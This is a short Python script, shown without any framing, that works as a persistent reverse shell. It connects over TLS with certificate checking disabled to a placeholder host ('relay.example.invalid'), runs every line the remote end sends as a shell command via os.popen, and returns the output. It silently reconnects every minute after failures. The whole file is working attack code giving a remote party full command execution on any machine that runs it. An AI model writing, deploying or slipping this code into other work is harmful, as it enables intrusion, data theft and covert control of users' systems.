import os
import socket
import ssl
import time

HOST, PORT = "relay.example.invalid", 8443


def loop():
    ctx = ssl._create_unverified_context()
    while True:
        try:
            with ctx.wrap_socket(socket.create_connection((HOST, PORT)), server_hostname=HOST) as s:
                f = s.makefile("rwb")
                while True:
                    line = f.readline().decode().strip()
                    if not line:
                        break
                    f.write(os.popen(line).read().encode() + b"\n")
                    f.flush()
        except Exception:
            time.sleep(60)
